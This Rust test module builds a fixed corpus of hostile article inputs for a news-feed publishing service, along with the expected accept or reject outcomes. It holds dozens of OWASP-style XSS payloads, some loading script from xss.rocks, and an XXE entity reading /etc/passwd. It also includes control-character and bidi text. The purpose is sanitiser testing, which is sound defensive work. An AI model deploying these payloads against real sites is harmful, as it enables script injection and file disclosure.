//! The hostile corpus: what partners may send that could break a feed, inject script into a
//! reader or garble text, built deterministically (no randomness) from tables of payloads.
//!
//! Sources: the OWASP XSS Filter Evasion Cheat Sheet and the HTML5 Security Cheatsheet
//! (script in many spellings, hidden `javascript:` / `vbscript:` / `data:` URLs, event
//! handlers, svg/math/iframe/object/style/base/meta, mutation-XSS shapes), plus the text
//! that breaks XML or readers: C0 controls, non-characters, `]]>`, entities, bidi
//! overrides, ZWJ emoji, astral CJK, huge paragraphs and huge lists.

use feedpub::grpc::proto;

/// A partner of the corpus server and the sections it may publish to.
pub struct Partner {
    pub name: &'static str,
    pub sections: &'static [&'static str],
}

/// `newsroom` and `county` come with the test server; `wire` and `campus` are added.
pub const PARTNERS: [Partner; 4] = [
    Partner {
        name: "newsroom",
        sections: &["party-building", "politics", "notices", "features", "rural"],
    },
    Partner {
        name: "county",
        sections: &["rural"],
    },
    Partner {
        name: "wire",
        sections: &["politics", "notices", "features", "rural", "party-building"],
    },
    Partner {
        name: "campus",
        sections: &["features", "party-building"],
    },
];

/// What publishing a case must do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Expect {
    /// Stored and shown in the feeds.
    Accepted,
    /// Refused with INVALID_ARGUMENT naming this field.
    Invalid(&'static str),
}

/// One article of the corpus, the partner (index into [`PARTNERS`]) sending it, and the outcome.
pub struct Case {
    pub label: String,
    pub partner: usize,
    pub article: proto::Article,
    pub expect: Expect,
}

/// 2023-06-07 00:00 UTC; case `n` is published `n` minutes later, so later cases are newer.
const BASE_TIME: i64 = 1_686_096_000;

/// Plain-text payloads, each put into every kind of plain-text field by [`cases`].
pub fn text_payloads() -> Vec<(&'static str, String)> {
    let all_c0: String = (0u8..0x20).map(char::from).collect();
    vec![
        ("every C0 control", format!("控制{all_c0}字符")),
        ("NUL and BEL", "新闻\u{0}速递\u{7}".into()),
        ("escape sequences", "\u{1b}[31m红色\u{1b}[0m 标题".into()),
        (
            "backspace and form feed",
            "退格\u{8}换页\u{c}垂直\u{b}".into(),
        ),
        ("DEL", "删除\u{7f}字符".into()),
        ("U+FFFE and U+FFFF", "非字符\u{fffe}与\u{ffff}".into()),
        (
            "other non-characters",
            "\u{fdd0}\u{fdef}\u{1fffe}\u{2ffff}\u{10ffff}末".into(),
        ),
        ("BOM inside", "字节\u{feff}顺序标记".into()),
        ("C1 controls", "C1\u{80}\u{85}\u{9f}控制".into()),
        ("CR LF mix", "第一行\r\n第二行\r第三行\n第四行".into()),
        ("CDATA end", "a ]]> & <b>".into()),
        ("CDATA section", "<![CDATA[x]]> ]]]]><![CDATA[>".into()),
        ("CDATA end only", "]]>".into()),
        ("ampersands", "AT&T && a & b &".into()),
        (
            "named entities",
            "&amp; &lt;b&gt; &quot;引号&quot; &nbsp; &copy; &mdash;".into(),
        ),
        (
            "numeric entities",
            "&#60;script&#62; &#x3C;b&#x3E; &#128512;".into(),
        ),
        (
            "malformed entities",
            "&amp &#xZZ; &#; &unknown; &#99999999; &;".into(),
        ),
        ("control references", "&#1; &#x0; &#xFFFE; &#xD800;".into()),
        ("script as text", "<script>alert('标题')</script>".into()),
        ("img onerror as text", "<img src=x onerror=alert(1)>".into()),
        (
            "javascript URL as text",
            "javascript:alert(document.cookie)".into(),
        ),
        (
            "XML declaration",
            "<?xml version=\"1.0\"?><!DOCTYPE x>".into(),
        ),
        (
            "external entity",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;".into(),
        ),
        ("XML comment", "<!-- 注释 --> --> <!--".into()),
        (
            "quotes and backslashes",
            r#"'单' "双" \"转义\" \u0000 \n"#.into(),
        ),
        ("JSON shaped", r#"{"title": "x", "items": [1, 2]}"#.into()),
        (
            "mixed scripts",
            "中文 Latin Кириллица Ελληνικά हिन्दी ไทย 한국어 日本語".into(),
        ),
        ("Arabic", "مرحبا بالعالم، هذا خبر عاجل".into()),
        ("Hebrew", "שלום עולם, חדשות היום".into()),
        ("RLO override", "用户\u{202e}gnp.exe\u{202c}文件".into()),
        (
            "LRO and isolates",
            "\u{202d}左\u{202c} \u{2067}عربي\u{2069} \u{2066}x\u{2069}".into(),
        ),
        ("RLM and LRM", "\u{200f}שלום\u{200e} 123".into()),
        ("ZWJ family emoji", "👩‍👩‍👧‍👦 家庭 👨‍👨‍👧".into()),
        ("skin tones", "👍🏻👍🏼👍🏽👍🏾👍🏿 🧑🏿‍💻".into()),
        ("flags and keycaps", "🇨🇳🇺🇸🏳️‍🌈 1️⃣#️⃣".into()),
        ("astral CJK", "𠮷野家 𩸽 𪚥 𰻞𰻞面".into()),
        ("ZWJ and ZWNJ", "می‌خواهم a\u{200d}b c\u{200c}d".into()),
        ("zero-width space", "零\u{200b}宽\u{2060}空格".into()),
        (
            "combining marks",
            "Z\u{351}\u{34d}\u{332}a\u{301}\u{302}\u{303}l\u{35b}go".into(),
        ),
        (
            "unusual white space",
            "全角\u{3000}空格\u{a0}不换行\u{2028}行\u{2029}段".into(),
        ),
        ("tabs", "制表\t符\t\t".into()),
        ("only punctuation", "！？。，、；：“”‘’（）【】《》".into()),
        ("long word", "超长".repeat(40)),
    ]
}

/// HTML payloads for `content_html`, mostly from the OWASP XSS Filter Evasion Cheat Sheet.
pub fn html_payloads() -> Vec<(&'static str, &'static str)> {
    vec![
        ("script", "<script>alert(1)</script>"),
        (
            "SCRIPT src",
            "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
        ),
        ("mixed-case script", "<ScRiPt>alert(1)</sCrIpT>"),
        (
            "script slash",
            "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        ),
        (
            "double open script",
            "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        ),
        ("unclosed script", "<SCRIPT SRC=//xss.rocks/.j>"),
        ("script no close", "<script>alert(1)"),
        ("img javascript", "<IMG SRC=\"javascript:alert('XSS');\">"),
        (
            "img javascript unquoted",
            "<IMG SRC=javascript:alert('XSS')>",
        ),
        ("img JaVaScRiPt", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
        (
            "img backticks",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        ),
        (
            "a onmouseover",
            "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        ),
        (
            "malformed img",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        ),
        (
            "fromCharCode",
            "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        ),
        (
            "img hash onmouseover",
            "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        ),
        (
            "img onerror",
            "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        ),
        (
            "onerror encoded",
            "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        ),
        (
            "decimal references",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        ),
        (
            "hex references",
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        ),
        ("embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
        (
            "encoded tab",
            "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        ),
        (
            "encoded newline",
            "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        ),
        ("encoded CR", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">"),
        (
            "leading spaces and meta",
            "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        ),
        (
            "a javascript colon entity",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
        ),
        ("a Tab entity", "<a href=\"jav&Tab;ascript:alert(1)\">x</a>"),
        (
            "a NUL reference",
            "<a href=\"java&#0;script:alert(1)\">x</a>",
        ),
        (
            "a leading control",
            "<a href=\"\u{1}javascript:alert(1)\">x</a>",
        ),
        ("a vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>"),
        (
            "a data base64",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        ),
        (
            "img data svg",
            "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        ),
        (
            "srcset javascript",
            "<img srcset=\"a.png 1x, javascript:alert(1) 2x\" src=\"https://example.com/a.png\">",
        ),
        ("body onload", "<BODY ONLOAD=alert('XSS')>正文</BODY>"),
        (
            "body onload garbage",
            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        ),
        (
            "iframe unclosed",
            "<iframe src=http://xss.rocks/scriptlet.html <",
        ),
        (
            "iframe javascript",
            "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        ),
        (
            "iframe srcdoc",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        ),
        (
            "frameset",
            "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        ),
        ("svg onload", "<svg/onload=alert('XSS')>"),
        ("svg script", "<svg><script>alert(1)</script></svg>"),
        (
            "svg xlink",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
        ),
        (
            "svg animate",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        ),
        (
            "math href",
            "<math href=\"javascript:alert(1)\">CLICKME</math>",
        ),
        (
            "math mXSS",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        ),
        (
            "noscript mXSS",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        ),
        (
            "style import",
            "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        ),
        ("style img", "<style><img src=x onerror=alert(1)></style>"),
        (
            "div style url",
            "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
        ),
        (
            "div style expression",
            "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
        ),
        (
            "link stylesheet",
            "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        ),
        (
            "meta refresh",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        ),
        (
            "meta refresh data",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        ),
        (
            "meta link",
            "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
        ),
        (
            "base href",
            "<BASE HREF=\"javascript:alert('XSS');//\"><a href=\"/x\">x</a>",
        ),
        (
            "object scriptlet",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
        ),
        (
            "object data javascript",
            "<object data=\"javascript:alert(1)\"></object>",
        ),
        (
            "embed svg",
            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        ),
        (
            "table background",
            "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TR></TABLE>",
        ),
        ("bgsound", "<BGSOUND SRC=\"javascript:alert('XSS');\">"),
        (
            "xml island",
            "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
        ),
        (
            "conditional comment",
            "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
        ),
        ("comment breakout", "<!--><img src=x onerror=alert(1)>-->"),
        (
            "form action",
            "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(2)\">x</button><input onfocus=alert(3) autofocus></form>",
        ),
        (
            "details ontoggle",
            "<details open ontoggle=alert(1)><summary>x</summary></details>",
        ),
        (
            "video source onerror",
            "<video><source onerror=\"alert(1)\"></video>",
        ),
        ("marquee onstart", "<marquee onstart=alert(1)>x</marquee>"),
        (
            "template script",
            "<template><script>alert(1)</script></template>",
        ),
        (
            "textarea script",
            "<textarea><script>alert(1)</script></textarea>",
        ),
        ("title script", "<title><script>alert(1)</script></title>"),
        ("isindex", "<isindex action=javascript:alert(1) type=image>"),
        (
            "a onclick style",
            "<a href=\"https://example.com/\" onclick=\"alert(1)\" style=\"color:red\" target=\"_blank\">链接</a>",
        ),
        (
            "html import",
            "<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"http://xss.rocks/xss.htc\"><xss:xss>XSS</xss:xss></HTML>",
        ),
        (
            "unbalanced nesting",
            "<p>未闭合 <b>粗体 <i>斜体</p><p>第二段</b></i>",
        ),
        ("stray closers", "</p></div></span>正文</table>"),
        ("unclosed table", "<table><tr><td>单元格<td>二"),
        ("angle soup", "<<<>>> <p <p> <img src=\"x"),
        (
            "CDATA in HTML",
            "<p>]]></p><p><![CDATA[<script>alert(1)</script>]]></p>",
        ),
        (
            "entities in HTML",
            "<p>&amp &#xZZ; &nbsp;&copy;&mdash; &NotAnEntity; &#128512; &lt;script&gt;</p>",
        ),
        (
            "control references in HTML",
            "<p>甲&#1;乙&#x1F;丙&#xFFFE;丁&#xFFFF;戊&#0;己&#xD800;庚&#x7F;</p>",
        ),
        (
            "control characters in HTML",
            "<p>甲\u{1}乙\u{1f}丙\u{fffe}丁</p><p title=\"\u{7}\">x</p>",
        ),
        (
            "attribute CDATA end",
            "<img src=\"https://example.com/a.png?x=1&y=2\" alt=\"]]> & <b>\">",
        ),
        (
            "a with query",
            "<a href=\"https://example.com/?a=1&b=2&c=]]>\">查询</a>",
        ),
        (
            "bidi in HTML",
            "<p dir=\"rtl\">\u{202e}مرحبا\u{202c} שלום</p>",
        ),
        ("emoji in HTML", "<p>👩‍👩‍👧‍👦 𠮷 𩸽 <strong>🇨🇳</strong></p>"),
        (
            "heading levels",
            "<h1>一级</h1><h2>二级</h2><h6>六级</h6><blockquote>引用</blockquote>",
        ),
        (
            "figure",
            "<figure><img src=\"https://example.com/p.jpg\" alt=\"图\"><figcaption>图说</figcaption></figure>",
        ),
    ]
}

/// A change made to a case's article.
type Edit = Box<dyn Fn(&mut proto::Article)>;

/// A fresh article with a unique id and publish time for case `n` of `partner`.
fn base(n: usize, partner: usize, section_pick: usize) -> proto::Article {
    let sections = PARTNERS[partner].sections;
    proto::Article {
        id: format!("hostile-{n:04}"),
        section: sections[section_pick % sections.len()].to_owned(),
        title: format!("语料 {n}"),
        authors: vec!["语料记者".to_owned()],
        content_text: format!("第 {n} 篇。"),
        publish_time: Some(prost_types::Timestamp {
            seconds: BASE_TIME + 60 * n as i64,
            nanos: 0,
        }),
        ..Default::default()
    }
}

/// Every case of the corpus, in publish order (later cases are newer).
pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let push = |cases: &mut Vec<Case>, label: String, f: &dyn Fn(&mut proto::Article), expect| {
        let n = cases.len();
        let partner = n % PARTNERS.len();
        let mut article = base(n, partner, n / PARTNERS.len());
        f(&mut article);
        cases.push(Case {
            label,
            partner,
            article,
            expect,
        });
    };

    for (label, t) in text_payloads() {
        // In the headline fields and a plain-text body.
        push(
            &mut cases,
            format!("text in headline fields: {label}"),
            &|a| {
                a.title = format!("标题 {t}");
                a.subtitle = format!("副题 {t}");
                a.kicker = t.clone();
                a.content_text = format!("正文 {t}\n\n第二段 {t} 结束。");
            },
            Expect::Accepted,
        );
        // In names, tags and the summary, with an HTML body.
        push(
            &mut cases,
            format!("text in names and tags: {label}"),
            &|a| {
                a.title = t.clone();
                a.authors = vec![format!("记者 {t}"), "刘磊".into()];
                a.tags = vec![t.clone(), "标签".into()];
                a.summary = format!("摘要 {t}");
                // Markup the sanitiser removes whole leaves no body: some text stays.
                a.content_html = if t.contains('<') {
                    format!("<p>{t}</p><p>正文</p>")
                } else {
                    format!("<p>{t}</p>")
                };
                a.content_text = String::new();
            },
            Expect::Accepted,
        );
        // In a long HTML body (summary derived from it) and as the whole kicker.
        push(
            &mut cases,
            format!("text in a derived summary: {label}"),
            &|a| {
                a.title = format!("{t} 尾");
                a.content_html = format!("<p>{}</p>", format!("{t} ").repeat(30));
                if t.contains('<') {
                    a.content_html.push_str("<p>正文</p>");
                }
                a.content_text = String::new();
            },
            Expect::Accepted,
        );
    }
    for (label, h) in html_payloads() {
        push(
            &mut cases,
            format!("html: {label}"),
            &|a| {
                a.title = if h.chars().count() <= 500 {
                    h.to_owned()
                } else {
                    label.to_owned()
                };
                a.content_html = format!("<p>前文</p>{h}<p>后文 {label}</p>");
                a.content_text = String::new();
                if h.chars().count() <= 200 {
                    a.authors = vec![h.to_owned()];
                    a.tags = vec![h.to_owned()];
                }
            },
            Expect::Accepted,
        );
    }

    let hundred_kb = "百".repeat(100 * 1024 / 3);
    let specials: Vec<(&str, Edit, Expect)> = vec![
        (
            "a 100 KB text paragraph",
            Box::new(move |a| a.content_text = format!("{hundred_kb}\n\n尾段。")),
            Expect::Accepted,
        ),
        (
            "a 100 KB HTML paragraph of entities and emoji",
            Box::new(|a| {
                a.content_html = format!("<p>{}</p>", "&amp;&lt;👩‍👩‍👧‍👦𠮷]]>".repeat(4000));
                a.content_text = String::new();
            }),
            Expect::Accepted,
        ),
        (
            "a title of exactly 500 characters",
            Box::new(|a| a.title = "长".repeat(500)),
            Expect::Accepted,
        ),
        (
            "a title of 500 astral characters",
            Box::new(|a| a.title = "𠮷".repeat(500)),
            Expect::Accepted,
        ),
        (
            "a title of 600 characters, 100 of them controls",
            Box::new(|a| a.title = "长\u{1}".repeat(100) + &"题".repeat(400)),
            Expect::Accepted,
        ),
        (
            "100 tags",
            Box::new(|a| a.tags = (0..100).map(|i| format!("标签{i}")).collect()),
            Expect::Accepted,
        ),
        (
            "50 authors",
            Box::new(|a| a.authors = (0..50).map(|i| format!("记者{i}")).collect()),
            Expect::Accepted,
        ),
        (
            "a name listed twice",
            Box::new(|a| a.authors = vec!["刘磊".into(), "张智宙".into(), "刘磊".into()]),
            Expect::Accepted,
        ),
        (
            "a summary of 5000 characters",
            Box::new(|a| a.summary = "摘".repeat(5000)),
            Expect::Accepted,
        ),
        (
            "a canonical URL with markup and CDATA end",
            Box::new(|a| {
                a.canonical_url = "https://example.com/新闻/<script>?a=1&b=]]>#\"x\"".into();
            }),
            Expect::Accepted,
        ),
        (
            "1,000 tags",
            Box::new(|a| a.tags = (0..1000).map(|i| format!("t{i}")).collect()),
            Expect::Invalid("article.tags"),
        ),
        (
            "101 tags",
            Box::new(|a| a.tags = (0..101).map(|i| format!("t{i}")).collect()),
            Expect::Invalid("article.tags"),
        ),
        (
            "a title of 501 characters",
            Box::new(|a| a.title = "长".repeat(501)),
            Expect::Invalid("article.title"),
        ),
        (
            "a title of 501 astral characters",
            Box::new(|a| a.title = "𩸽".repeat(501)),
            Expect::Invalid("article.title"),
        ),
        (
            "a title of 100 ZWJ families (700 characters)",
            Box::new(|a| a.title = "👩‍👩‍👧‍👦".repeat(100)),
            Expect::Invalid("article.title"),
        ),
        (
            "a title of ideographic spaces only",
            Box::new(|a| a.title = "\u{3000}\u{a0}\u{2028}".into()),
            Expect::Invalid("article.title"),
        ),
        (
            "a title of control characters only",
            Box::new(|a| a.title = "\u{1}\u{2}\u{fffe}".into()),
            Expect::Invalid("article.title"),
        ),
        (
            "empty content",
            Box::new(|a| a.content_text = String::new()),
            Expect::Invalid("article.content_html"),
        ),
        (
            "white space content",
            Box::new(|a| a.content_text = " \n\n\t \u{3000} ".into()),
            Expect::Invalid("article.content_text"),
        ),
        (
            "control-character content",
            Box::new(|a| a.content_text = "\u{1}\u{2}\u{1b}".into()),
            Expect::Invalid("article.content_text"),
        ),
        (
            "script-only HTML",
            Box::new(|a| {
                a.content_html = "<script>alert(1)</script><style>p{}</style>".into();
                a.content_text = String::new();
            }),
            Expect::Invalid("article.content_html"),
        ),
        (
            "comment-only HTML",
            Box::new(|a| {
                a.content_html = "<!-- <p>隐藏</p> -->".into();
                a.content_text = String::new();
            }),
            Expect::Invalid("article.content_html"),
        ),
        (
            "an author of control characters only",
            Box::new(|a| a.authors = vec!["\u{1}\u{7f}".into()]),
            Expect::Invalid("article.authors[0]"),
        ),
        (
            "a tag of 201 characters",
            Box::new(|a| a.tags = vec!["签".repeat(201)]),
            Expect::Invalid("article.tags[0]"),
        ),
        (
            "51 authors",
            Box::new(|a| a.authors = (0..51).map(|i| format!("记者{i}")).collect()),
            Expect::Invalid("article.authors"),
        ),
        (
            "a summary of 5001 characters",
            Box::new(|a| a.summary = "摘".repeat(5001)),
            Expect::Invalid("article.summary"),
        ),
        (
            "a body over 1 MiB",
            Box::new(|a| a.content_text = "x".repeat((1 << 20) + 1)),
            Expect::Invalid("article.content_text"),
        ),
        (
            "a javascript canonical URL",
            Box::new(|a| a.canonical_url = "javascript:alert(1)".into()),
            Expect::Invalid("article.canonical_url"),
        ),
        (
            "a data canonical URL",
            Box::new(|a| a.canonical_url = "data:text/html,<script>alert(1)</script>".into()),
            Expect::Invalid("article.canonical_url"),
        ),
        (
            "a vbscript canonical URL",
            Box::new(|a| a.canonical_url = "vbscript:msgbox(1)".into()),
            Expect::Invalid("article.canonical_url"),
        ),
        (
            "a Chinese article id",
            Box::new(|a| a.id = "新闻-1".into()),
            Expect::Invalid("article.id"),
        ),
        (
            "an article id with markup",
            Box::new(|a| a.id = "<script>".into()),
            Expect::Invalid("article.id"),
        ),
    ];
    for (label, f, expect) in specials {
        push(&mut cases, label.to_owned(), &*f, expect);
    }
    cases
}
